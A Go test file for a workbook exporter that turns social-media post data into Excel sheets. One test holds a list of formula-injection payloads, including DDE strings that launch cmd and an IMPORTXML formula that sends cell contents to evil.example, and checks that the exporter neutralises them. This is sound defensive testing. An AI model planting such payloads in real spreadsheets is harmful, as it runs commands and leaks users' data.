package workbook

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/digital-diplomacy/tailor/data"
	"github.com/digital-diplomacy/tailor/data/lake"
)

// nothing is a lake without rows.
type nothing struct{}

func (nothing) Files(string) []lake.File { return nil }
func (nothing) OpenFile(context.Context, lake.File) (lake.Object, error) {
	return nil, fmt.Errorf("no files")
}

// put replaces a partition of a lake in memory.
func put[T any](t *testing.T, c *lake.Changes, dirt string, table lake.Table[T], rows ...T) {
	t.Helper()
	for i := range rows {
		soil(reflect.ValueOf(&rows[i]).Elem(), dirt)
	}
	if err := lake.Replace(c, table, table.Partition(&rows[0]), rows, ""); err != nil {
		t.Fatal(err)
	}
}

var published = data.At(time.Date(2026, 5, 4, 9, 30, 0, 0, time.UTC))

func aPost(id string, day int, text string) data.Post {
	return data.Post{PostID: data.PostID("x:" + id), AccountID: "oslo-x", Platform: "x", PublishedAt: published.Add(time.Duration(day) * 24 * time.Hour), Text: text, URL: "https://x.example/" + id}
}

// soil puts dirt into every text that a row does not need for itself; "" is none.
func soil(v reflect.Value, dirt string) {
	for i := range v.NumField() {
		switch f := v.Field(i); {
		case dirt == "" || v.Type().Field(i).Name == "Suppressed": // a cell with a reason is left out
		case f.Kind() == reflect.String && f.Len() == 0:
			f.SetString(dirt)
		case f.Kind() == reflect.Slice && f.Len() == 0 && f.Type().Elem().Kind() == reflect.String:
			f.Set(reflect.Append(f, reflect.ValueOf(dirt).Convert(f.Type().Elem())))
		}
	}
}

// sample is a lake with two missions, of which one has hostile text everywhere.
func sample(t *testing.T, text string) lake.Reader { return soiled(t, text, "") }

// soiled is the same with dirt in every text that has no other.
func soiled(t *testing.T, text, dirt string) lake.Reader {
	t.Helper()
	c := new(lake.Changes)
	put(t, c, dirt, lake.Accounts,
		data.Account{AccountID: "oslo-x", Platform: "x", Handle: text, Role: data.RoleOwn, Mission: "Oslo", Audience: text},
		data.Account{AccountID: "paris-x", Platform: "x", Role: data.RoleOwn, Mission: "Paris"})
	paris := aPost("9", 3, "Bonjour")
	paris.AccountID = "paris-x"
	hostile := aPost("1", 0, text)
	hostile.URL, hostile.Hashtags = text, []string{text}
	put(t, c, dirt, lake.Posts, hostile, aPost("2", 1, "Second"), aPost("3", 2, "Third"), paris)
	value, rate, lift := 12.0, 0.25, 1.5
	put(t, c, dirt, lake.PostMetrics,
		data.PostMetric{PostID: "x:1", AccountID: "oslo-x", Platform: "x", PublishedAt: published, Metric: "interactions_public", Age: "settled", Value: &value},
		data.PostMetric{PostID: "x:1", AccountID: "oslo-x", Platform: "x", PublishedAt: published, Metric: "er_reach", Age: "settled", Paid: "organic", Value: &rate},
		data.PostMetric{PostID: "x:2", AccountID: "oslo-x", Platform: "x", PublishedAt: published.Add(24 * time.Hour), Metric: "interactions_public", Age: "settled", Missing: data.Immature})
	put(t, c, dirt, lake.EngagementCells,
		data.EngagementCell{AccountID: "oslo-x", Platform: "x", Format: data.FormatUnknown, Week: "2026-W19", Metric: "er_reach.numerator", Age: "settled", Paid: "organic", N: 1, Sum: 3},
		data.EngagementCell{AccountID: "oslo-x", Platform: "x", Format: data.FormatUnknown, Week: "2026-W19", Metric: "er_reach.denominator", Age: "settled", Paid: "organic", N: 1, Sum: 12})
	put(t, c, dirt, lake.AdviceTable, data.Advice{Period: "2026-W18", Mission: "Oslo", Rank: 1, Level: "old"})
	put(t, c, dirt, lake.AdviceTable, data.Advice{Period: "2026-W19", Mission: "Oslo", Rank: 1, Level: text, Lift: &lift}, data.Advice{Period: "2026-W19", Mission: "Paris", Rank: 1})
	put(t, c, dirt, lake.FormatEffects, data.FormatEffect{Period: "2026-W19", Level: text, Warnings: []string{text}}, data.FormatEffect{Period: "2026-W19", AccountID: "paris-x"})
	put(t, c, dirt, lake.MoodTable,
		data.Mood{Mission: "Oslo", Period: "2026-W18", Value: text, N: data.N(40), Negative: &rate, Frozen: true},
		data.Mood{Mission: "Oslo", Period: "2026-W19", Suppressed: "too few people to show safely", Frozen: true},
		data.Mood{Mission: "Paris", Period: "2026-W19", N: data.N(30), Frozen: true})
	return lake.Over(nothing{}, c)
}

var about = About{Unit: "Ministry", Commit: "0123456789ab", Program: "test", AsOf: time.Date(2026, 6, 1, 6, 0, 0, 0, time.UTC)}

func written(t *testing.T, r lake.Reader, about About, maxRows int64) ([]byte, []Sheet) {
	t.Helper()
	var b bytes.Buffer
	sheets, err := write(t.Context(), &b, r, about, maxRows)
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes(), sheets
}

// rowsOf reads a sheet as a list of rows by column name.
func rowsOf(t *testing.T, book []byte, sheet string) []map[string]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil || len(all) == 0 {
		t.Fatalf("sheet %s: %d rows, %v", sheet, len(all), err)
	}
	var rows []map[string]string
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, c := range cells {
			row[all[0][i]] = c
		}
		rows = append(rows, row)
	}
	return rows
}

// parts are the files of the archive.
func parts(t *testing.T, book []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	of := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		of[f.Name] = string(b)
	}
	return of
}

func TestSheets(t *testing.T) {
	book, sheets := written(t, sample(t, "First"), about, MaxRows)
	for i, want := range []Sheet{{Name: sheetAdvice, Rows: 2}, {Name: sheetEffects, Rows: 2}, {Name: sheetCells, Rows: 2}, {Name: sheetPosts, Rows: 4}, {Name: sheetMood, Rows: 2}} {
		if sheets[i] != want {
			t.Errorf("sheet %d is %+v, want %+v", i, sheets[i], want)
		}
	}
	posts := rowsOf(t, book, sheetPosts)
	if got := posts[0]["post_id"]; got != "x:9" {
		t.Errorf("the first post is %s, not the newest", got)
	}
	first := posts[3]
	// 46146 days lie between 1899-12-30 and 2026-05-04; 9:30 is 0.3958 of a day.
	if first["interactions_public"] != "12" || !strings.HasPrefix(first["published_at"], "46146.39583") || first["mission"] != "Oslo" {
		t.Errorf("post x:1 is %v", first)
	}
	if got := posts[2]; got["interactions_public"] != "" || got["not_settled"] != "immature" {
		t.Errorf("post x:2 is %v", got)
	}
	for _, cells := range rowsOf(t, book, sheetCells) {
		if cells["er_sum"] != "0.25" || cells["er_median"] != "0.25" || cells["n"] != "1" {
			t.Errorf("cells are %v, want 3/12", cells)
		}
	}
	for _, mood := range rowsOf(t, book, sheetMood) {
		if mood["n"] == "" || mood["suppressed"] != "" {
			t.Errorf("a cell that was not published is shown: %v", mood)
		}
	}
	for _, line := range rowsOf(t, book, sheetDictionary) {
		if line["meaning"] == "" {
			t.Errorf("no meaning of %s.%s", line["sheet"], line["column"])
		}
	}
}

func TestOneMission(t *testing.T) {
	oslo := about
	oslo.Mission = "Oslo"
	book, sheets := written(t, sample(t, "First"), oslo, MaxRows)
	for i, want := range []int64{1, 1, 2, 3, 1} {
		if sheets[i].Rows != want {
			t.Errorf("sheet %s has %d rows, want %d", sheets[i].Name, sheets[i].Rows, want)
		}
	}
	for name, part := range parts(t, book) {
		if strings.Contains(part, "paris-x") || strings.Contains(part, "Paris") {
			t.Errorf("%s tells of another mission", name)
		}
	}
}

// TestForeignText has hostile text in every field: no formula, no link, nothing
// external, no control of direction; and cells that are no numbers.
func TestForeignText(t *testing.T) {
	payloads := []string{
		"=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example","go")`, "+1+1", "-1", "@SUM(1)", "\t=1+1", "\r\n=1+1", "＝1+1",
		"https://evil.example/", "mailto:a@evil.example", `\\evil.example\share`, "<f>1+1</f>", "]]><f>1</f>", "&#61;1+1", "_x003D_1+1", "\u202e=1+1", "\u2066x\u2069", "\u200f",
		"\x00\x01\x0b", "\ufffe", "1e5", "007", "2026-05-04", "TRUE", "'=1", "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")", "{=1+1}", "DDE(\"cmd\";\"/C calc\";\"x\")",
	}
	formula := regexp.MustCompile(`<f[ >/]|<hyperlink|TargetMode="External"|externalLink|<ddeLink|<oleLink`)
	for _, p := range payloads {
		foreign := about
		foreign.Unit, foreign.Program = p, p
		book, _ := written(t, soiled(t, p, p), foreign, MaxRows)
		for name, part := range parts(t, book) {
			if found := formula.FindString(part); found != "" {
				t.Errorf("%q: %s has %s", p, name, found)
			}
			if strings.ContainsAny(part, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f") {
				t.Errorf("%q: %s steers direction", p, name)
			}
		}
		f, err := excelize.OpenReader(bytes.NewReader(book))
		if err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		rows, err := f.GetRows(sheetPosts)
		if err != nil {
			t.Fatal(err)
		}
		for i, name := range rows[0] {
			if name != "text" {
				continue
			}
			at, _ := excelize.CoordinatesToCellName(i+1, len(rows))
			got, err := f.GetCellValue(sheetPosts, at)
			kind, _ := f.GetCellType(sheetPosts, at)
			if want := cleaned(p); err != nil || got != want && p != "_x003D_1+1" || want != "" && kind != excelize.CellTypeInlineString {
				t.Errorf("%q became %q of type %v (%v)", p, got, kind, err)
			}
		}
		f.Close()
	}
}

func TestEqualBytes(t *testing.T) {
	want, _ := written(t, sample(t, "First"), about, MaxRows)
	for range 5 {
		if got, _ := written(t, sample(t, "First"), about, MaxRows); !bytes.Equal(got, want) {
			t.Fatal("equal lakes give different workbooks")
		}
	}
	if got, _ := written(t, sample(t, "Other"), about, MaxRows); bytes.Equal(got, want) {
		t.Error("different lakes give equal workbooks")
	}
}

// TestIs knows a workbook by all that it is about, and takes nothing else for one.
func TestIs(t *testing.T) {
	book, _ := written(t, sample(t, "First"), about, MaxRows)
	is := func(b []byte, a About) bool { return Is(bytes.NewReader(b), int64(len(b)), a) }
	if !is(book, about) {
		t.Error("a workbook is not taken for itself")
	}
	for name, change := range map[string]func(*About){"unit": func(a *About) { a.Unit = "x" }, "mission": func(a *About) { a.Mission = "x" }, "moment": func(a *About) { a.AsOf = a.AsOf.Add(1) },
		"commit": func(a *About) { a.Commit = "x" }, "program": func(a *About) { a.Program = "x" }, "made up": func(a *About) { a.MadeUp = true }} {
		other := about
		if change(&other); is(book, other) {
			t.Errorf("the workbook of another %s is taken for this", name)
		}
	}
	for n := range 200 {
		if is(book[:len(book)*n/200], about) {
			t.Errorf("%d/200 of a workbook are taken for it", n)
		}
	}
}

// TestTooManyRows fills a sheet of three rows: the newest stay, and the first page
// says what is missing.
func TestTooManyRows(t *testing.T) {
	book, sheets := written(t, sample(t, "First"), about, 3)
	posts := rowsOf(t, book, sheetPosts)
	if len(posts) != 2 || posts[0]["post_id"] != "x:9" || posts[1]["post_id"] != "x:3" {
		t.Errorf("posts are %v", posts)
	}
	if s := sheets[3]; s.Rows != 2 || s.LeftOut != 2 || s.Which != "the oldest posts" {
		t.Errorf("said of posts: %+v", s)
	}
	if page := parts(t, book)["xl/worksheets/sheet1.xml"]; !strings.Contains(page, "2 more do not fit on a sheet and were left out: the oldest posts") {
		t.Error("the first page does not say what was left out")
	}
}

func TestHugeCell(t *testing.T) {
	book, _ := written(t, sample(t, strings.Repeat("😀", 40_000)), about, MaxRows)
	for _, row := range rowsOf(t, book, sheetPosts) {
		if row["post_id"] == "x:1" && (utf8.RuneCountInString(row["text"]) != longestCell+1 || !strings.HasSuffix(row["text"], "…")) {
			t.Errorf("the cell holds %d characters", utf8.RuneCountInString(row["text"]))
		}
	}
}

// TestEmpty opens a workbook of a lake without rows.
func TestEmpty(t *testing.T) {
	book, sheets := written(t, nothing{}, about, MaxRows)
	for _, s := range sheets {
		if s.Rows > 0 && s.Name != sheetDictionary {
			t.Errorf("sheet %s has %d rows", s.Name, s.Rows)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil || len(rows) == 0 {
			t.Errorf("sheet %s has no header: %v", name, err)
		}
		if panes, err := f.GetPanes(name); name != sheetReadMe && (err != nil || !panes.Freeze) {
			t.Errorf("the header of %s is not frozen: %v", name, err)
		}
		if tables, err := f.GetTables(name); name != sheetReadMe && (err != nil || len(tables) != 1) {
			t.Errorf("%s has no filters: %v", name, err)
		}
	}
}
